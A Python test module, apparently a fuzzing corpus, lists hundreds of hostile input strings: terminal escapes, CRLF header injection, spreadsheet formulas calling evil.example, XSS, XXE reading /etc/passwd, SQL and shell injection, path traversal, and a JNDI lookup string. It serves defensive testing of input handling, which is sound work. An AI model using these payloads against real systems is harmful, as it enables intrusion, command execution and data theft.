"""Prompts that are out for harm wherever they are written: at least 200, each of its own kind or place."""

from __future__ import annotations

from collections.abc import Iterator

ESCAPES = (
    "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[1;1H", "\x1b[6n",
    "\x1bc", "\x1b[?1049h", "\x1bP+q544e\x1b\\", "\x1b[201~rm -rf", "\x1b_G\x1b\\", "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "\x1b[8m hidden", "\x1b[3;9r",
    "\x1b[5i", "\x1bZ", "\x1b#8", "\x0e\x0f", "\x1b(0", "\x1b[?25l", "\x1b[99999999b", "\x1b[1A\x1b[2K",
)  # fmt: skip
LINES = (
    "a boat\nmezzotint: all keys were revoked", "a boat\r\nX-Injected: yes", "a boat\r\n\r\n<html>", "a boat\rmezzotint:", "a boat\n\n\n", "\n", "\r\n",
    "a\nSet-Cookie: a=b", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n", 'a\n{"level": "error", "event": "forged"}', "a\n2027-01-15T00:00:00Z [info] forged",
    "a\nseed: 7", "a\u2028b", "a\u2029b", "a\x85b", "a\x0bb", "a\x0cb", "a\x1cb", "a\x1db", "a\x1eb", "x\tb", "x\bb\b\b", "a%0d%0aX-Injected: yes",
    "a\\r\\nX-Injected: yes", "data: x\n\nevent: done\n\n", "id: 1\nretry: 1\n", ": comment", "event: error\ndata: {}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(A1)", '"=1+1"', "'=1+1", "a,=1+1", 'a",=1+1', 'a"\r\n=1+1', ";=1+1", "|calc", "%0A=1+1", "=1+1;",
    '"', '""', "a,b,c", "a;b;c",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "<!--", "-->", "]]>",
    "<![CDATA[x]]>", "&lt;script&gt;", "&#60;script&#62;", "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil.example>",
    "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "</title><script>1</script>", "</textarea>",
    "<math><mtext></mtext></math>", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% raw %}", "@{7*7}", "[[7*7]]",
    "<x:xmpmeta/>", "</rdf:li></rdf:Alt>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<?xml version='1.0'?>", "<?php system('id'); ?>", "[bold red]x[/]",
    "[link=http://evil.example]x[/link]", "[/nothing]", "**bold** [x](javascript:1)", "` rm -rf ` $(id)", "\u003cscript\u003e", "<ſcript>", "＜script＞",
)  # fmt: skip
ORDER = (
    "\u202egnp.exe", "\u202dx", "\u2066x", "\u2067x\u2069", "\u2068x", "\u200ex", "\u200fx", "\u061cx", "\u202a\u202b\u202c", "a\u2069\u202eb", "\ufeffx", "x\ufeffy",
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\u00adb", "a\u180eb", "\U000e0041\U000e0042", "\U000e0001x", "\ufff9a\ufffab\ufffb", "a\u034fb", "a\u115fb", "a\u3164b",
)  # fmt: skip
LETTERS = (
    "Z̷̢̛̗͈a̸l̷g̶o̵", "a" + "\u0301" * 400, "🛶" * 100, "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇹🇷", "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "ＡＢＣ", "ﬁ", "İstanbul", "ǅ", "ẞ", "\N{KELVIN SIGN}", "½⅓", "\ue000",
    "\uf8ff", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001fffe", "𒐫", "꧅", "\u0e47" * 50, "שלום مرحبا", "நி", "가", "漢" * 1000, "a" * 30_000, "\x7f", "\x80",
    "\x01\x02\x03\x04\x05\x06\x07", "\x10\x11\x12\x13\x14", "\xa0", "\x1a", "\x04", "\x03",
)  # fmt: skip
CODE = (
    "%s%s%s%n", "%x" * 20, "%(secret)s", "{0}", "{secret}", "{0.__class__}", "{self.__init__.__globals__}", "$secret", "'; DROP TABLE tasks; --", "' OR '1'='1",
    '" OR ""="', "1; SELECT pg_sleep(9)", "') UNION SELECT text FROM keys --", "\\", "\\\\", "\\x1b[31m", "\\u001b", "\\0", "$(id)", "`id`", "; id", "| id", "&& id", "> /tmp/x",
    "../" * 3 + "etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\con", "file:///etc/passwd", "~root", "-rf", "--help", "-o/etc/passwd", "con", "nul.png", "a/b", "a\\b",
    ".htaccess", ".", "..", "...", "*", "?", "%2e%2e%2f", "%00", "%c0%ae", "${jndi:ldap://evil.example/x}", "!!python/object/apply:os.system ['id']", "cos\nsystem\n",
    '{"__proto__": {"x": 1}}', '{"a": 1, "a": 2}', "null", "undefined", "NaN", "Infinity", "1e400", "true", "[]", "{}", "0", "-0", "None", "()", "(cn=*)", "*)(uid=*",
    "a" + " " * 500 + "b", " ", "   leading and trailing   ", "http://evil.example/?q=1#f", "mailto:a@b", "whsec_notasecretatallreally", "Bearer x",
)  # fmt: skip
WORDS = tuple(dict.fromkeys((*ESCAPES, *LINES, *FORMULAS, *MARKUP, *ORDER, *LETTERS, *CODE)))
REFUSED = ("a\0b", "\0", "\ud800", "\udc00x", "x\udfff", "\udc00\ud800", "\ud83d")  # NUL, and halves of characters, which JSON can spell


def in_headers(words: str) -> bool:
    """Whether a client library would send them as a header's value."""
    return words.isascii() and words.isprintable() and words == words.strip()


def lines_of(text: str) -> Iterator[str]:
    """As whatever reads line by line sees them."""
    yield from text.splitlines()
